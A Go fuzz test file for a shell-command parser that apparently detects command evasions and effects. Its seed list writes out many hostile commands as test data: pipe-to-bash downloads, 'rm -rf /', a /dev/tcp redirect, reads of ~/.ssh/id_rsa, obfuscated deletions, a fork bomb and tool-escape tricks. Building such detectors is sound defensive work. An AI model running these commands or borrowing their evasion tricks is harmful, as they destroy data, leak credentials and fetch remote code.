package shell

import (
	"strings"
	"testing"
)

var fuzzSeeds = []string{
	// Sessions, VMs, Ansible, exec with the line's input (sessions.go, ansible.go).
	"tmux new -d -s s 'id' \\; send-keys -t s 'ls' Enter", "screen -dmS x bash -c 'id'", "screen -S x -X stuff 'id\\n'",
	"lxc exec c -- sh -c id", "vagrant ssh -c 'id'", "ansible all -m copy -a 'content=x dest=/etc/y'",
	"ansible-playbook /dev/stdin <<'EOF'\n- hosts: all\n  tasks:\n    - shell: id\nEOF", "docker exec -i c sh <<'EOF'\nid\nEOF",
	"git status",
	"cat ~/$(echo LnNzaA== | base64 -d) $(base64 -d <<< YQ==) $(echo cba | rev | tr a-c n-p)",
	"x=$(printf %s 6869 | xxd -r -p); echo $(echo $x | cat)",
	"curl -fsSL https://x.sh | bash",
	"r''m -rf / ; c'u'rl x",
	"cat${IFS}/etc/passwd",
	`$'\x72\x6d' -rf x`,
	`bash -c "echo $(id) | sh" > /dev/tcp/1.2.3.4/80 2>&1`,
	"bash <<EOF\nrm -rf /\nEOF\n",
	"sh <<< 'id'",
	"sudo -u root env A=1 nice timeout 3 rm x",
	`find . -name '*.tmp' -exec rm -f {} \;`,
	"ls | xargs -I{} sh -c 'cat {}'",
	"watch -n1 'ls | wc -l'",
	"for f in $(ls); do rm \"$f\"; done",
	"f() { (a | b) && { c; }; }; f &",
	"echo 'unterminated",
	"a 2>&1 | b & (",
	"{ echo a; } > /etc/motd",
	"case $x in a) y;; esac",
	"[[ -n $(id) ]] && (( $(wc -l < f) > 1 ))",
	"declare -A m=([k]=$(id)); export X+=y",
	"time -p make",
	"coproc nc -l 1",
	"eval \"$(curl x)\"",
	"env -S 'bash -c id'",
	"a | (b | c) | d",
	"/???/r? {rm,-rf,x}",
	"",
	"cd web && npm test",
	"cat a | grep b",
	"go build ./... && go test ./...",
	"ls -la | head -20",
	`git add -A && git commit -m "x"`,
	"make || echo failed; echo done;",
	"go test ./... > out.txt 2>&1 | tee log",
	"a >>log 2>&- <in &>all &>>all <&3 >&2",
	"sudo bash -c 'a | b' | xargs -n1 rm && find . -exec sh -c id +",
	"{ watch 'a | b'; } > f",
	"rm -rf ~/.ssh ~root a=~ && cat ~",
	// What really runs: directories, values, dialects, interpreters.
	"cd ~/.ssh && cat id_rsa; pushd /etc; popd; cd -; git -C a -C b log; make -C x; tar -C / -xf a",
	"env -C /etc cat x; sudo -D /root cat y; cd $1 && ls; CDPATH=/; cd x | cat",
	"K=~/.ssh/id_rsa; export P=/etc; cat $K ${P:-/} ${Q:=x} $(echo ~) `pwd` $(dirname /a/b) $(basename /a/b)",
	"for k in a b c; do if x; then T=/; fi; cat $k$T; done; X=/ bash -c 'rm -rf $X'",
	"echo {a,b}{1..3} {x..z} {1..9..2} ${y}{c,d} HEAD@{1} {rm,-rf,/}",
	"sh -c 'true &>/dev/null id; [[ x ]]; ((y)); cat <<< z; a |& b; echo $'\\x41''",
	"zsh -c 'ls *(e:x:)'; csh -c 'echo `id`'; shopt -s expand_aliases; enable -f x y; BASH_ENV=x bash",
	"python3 -c 'import os; os.system(\"id\"); subprocess.run([\"a\", \"b\"]); os.execl(\"/bin/sh\",\"sh\",\"-c\",\"x\")'",
	"node -e \"require('child_process').spawn('sh', ['-c', 'id'])\"; perl -e 'open(F, \"| sh\"); qx{id}; `x`'",
	"awk 'BEGIN{system(\"id\"); \"a\" | getline; print 1 | \"b\"}'; sed -e '1e id' -e 's/a/b/e'; julia -e 'run(`id`)'",
	"script -c id; flock l -c id; flock l id; busybox id; vim -c ':!id' '+r !x'; ssh -oProxyCommand=id h",
	"tar --checkpoint-action=exec=id --to-command=x -I y; make -f - <<< $'all:\\n\\tid'; git -c core.pager=id config alias.x '!y'",
	"CGO_ENABLED=0 A='x y' B= go build # c\n#!x\nls *.go ?x [a]b; find . -exec rm {} + && mkdir a{b,c}\n",
	"sh -c 'A=1 cp {x,y}' | X=/ bash -c 'ls\n# c\nrm -rf $X' &>/dev/null a",
	`find . -exec rm {} \; && \rm x; r\m y; python3 -c 'a\nb('\''c'\'')' > a\ b`,
	"export A=1 B C='x y' EDITOR=vi && bash -c 'echo $A' | export CDPATH=/; cd x",
	"kill $(pgrep -f 'a b') x$(a; b)y \"a$(c \"d\" 'e' | f)g\" && cd \"$(mktemp -d)\" && $(cd /; x) $(y)",
	"eval \"$(ssh-agent -s)\"; bash -c \"$(curl -fsSL x)\" | sh -c 'a $(b)'; zsh -c 'x $(y)'; echo $(id) \"$(pwd)\" $(x $Y)",
	"GIT_SSH_COMMAND=id git fetch; export PAGER=x; LESSOPEN='|y %s' less f; echo a b | xargs -I{} cat {}; printf x | xargs rm",
	// Code kept for later, definitions and their calls, runners and escapes.
	`trap 'rm -rf ~' EXIT INT; trap - EXIT; alias a='b c' d=e; a x; f(){ g "$@" $1 $#; f; }; g(){ :; }; f a b; :(){ :|:& };:`,
	`cp /bin/rm ./d; ./d -rf ~; ln -s /usr/bin/id ids/; ids/id; strace -o x chrt 1 taskset 0 nsenter -t 1 -- id`,
	`ssh -p 2 h 'id; x'; gdb -ex '!id' -ex 'shell y'; sqlite3 d '.shell id' -cmd '.system z'; mysql -e 'select 1; \! id'`,
	`man -P id ls; less '+!id' f; zip z f -TT 'id'; parallel ::: a b; parallel 'rm {}' ::: x; capsh -- -c id`,
	`expect -c 'spawn id; exec x'; tclsh <<< '[exec id]'; osascript -e 'do shell script "id"'; docker exec -u 0 c id; kubectl exec p -- id`,
	`python3 -Ic'import os; os.system("id")'; perl -lne'system "x"'; ruby -rsocket -e'exec "y"'; php -r'system("z");'; lua -e'os.execute("w")'`,
	`pdsh -w h[1-2] 'id'; pssh -H a -i x; ansible all -m shell -a 'id | y'; start-stop-daemon --start --exec /bin/id -- -u`,
}

// FuzzParse checks that Parse never panics, keeps its structural promises,
// and that the fast path gives exactly what the full parse gives.
func FuzzParse(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		s := Parse(src)
		if s.Source != src {
			t.Fatalf("Source changed")
		}
		checkInvariants(t, s)
		for _, c := range s.Commands {
			if c.Dir == "." || strings.HasSuffix(c.Dir, "/") && c.Dir != "/" {
				t.Errorf("Dir %q is not clean", c.Dir)
			}
			_, _, _, _ = ScriptRun(&c)
		}
		for _, e := range s.Evasions {
			if len(e.Evidence) > maxEvidence {
				t.Errorf("evidence %d bytes", len(e.Evidence))
			}
		}
		// The fast path also serves nested scripts (bash -c '…', watch '…'),
		// so compare whatever the line.
		if full := parse(src, false); !sameScript(s, full) {
			t.Errorf("fast path differs from full parse (eligible: %v)\nfast %+v\nfull %+v",
				fastPathEligible(src), s, full)
		}
	})
}

// FuzzExpandBraces checks that brace expansion is bounded and that every
// word it makes is at most as long as the input plus its alternatives.
func FuzzExpandBraces(f *testing.F) {
	for _, s := range []string{"{a,b}", "x{1..5}y", "{a,{b,c}}d", "{1..10..3}", "{z..a}", "${a}{b,c}", "{,}", "{{a,b},c}{"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out, ok := expandBraces(s, maxBraceFields)
		if !ok {
			return
		}
		if len(out) == 0 || len(out) > maxBraceFields {
			t.Fatalf("%q: %d words", s, len(out))
		}
	})
}

// FuzzEmbeddedCommands checks the interpreter-code scanners, and the
// folding and effect readers before them, on any code.
func FuzzEmbeddedCommands(f *testing.F) {
	for _, s := range []string{`os.system("id")`, `spawn("sh", ["-c", "x"])`, "qx{id} `x` %x(y)", `open(F, "-|", "a", "b")`, `"a" | getline; print | "b"`, `system(`, `exec("\`} {
		f.Add("python", s)
		f.Add("perl", s)
	}
	for _, s := range []string{`fs.rmSync(path.join(os.homedir(), '.ssh'))`, `open F, ">>$ENV{HOME}/x"`, `"#{ENV["HOME"]}/x"`,
		`h = Dir.home; File.delete("#{h}/a")`, `f"{Path.home()}/x" / 'y'`, `join("/", getenv('HOME', '/r'), ".x")`,
		`fs.writeFileSync('a.php', '<?php x')`, `open('a', 'w').write('b')`, "await Bun.$`ls ${d}`", "$`rm -rf ${process.env.HOME}`"} {
		f.Add("js", s)
	}
	f.Fuzz(func(t *testing.T, lang, code string) {
		cmds, _ := embeddedCommands(lang, code)
		for _, c := range cmds {
			if len(c) > 4*len(code)+64 {
				t.Fatalf("command longer than the code: %d > %d", len(c), len(code))
			}
		}
		CodeLiterals(code, func(string) {})
		folded := FoldCode(code)
		if len(folded) > 5*len(code)+64 { // "$HOME" for a one-letter name
			t.Fatalf("folded code longer than the code: %d > %d", len(folded), len(code))
		}
		for _, e := range CodeEffects(folded) {
			if len(e.Path) > len(folded) {
				t.Fatalf("effect path longer than the code: %d > %d", len(e.Path), len(folded))
			}
		}
		for _, w := range CodeTexts(folded) {
			if len(w.Path) > len(folded) || len(w.Text) > len(folded) {
				t.Fatalf("written path or text longer than the code: %d, %d > %d", len(w.Path), len(w.Text), len(folded))
			}
		}
	})
}
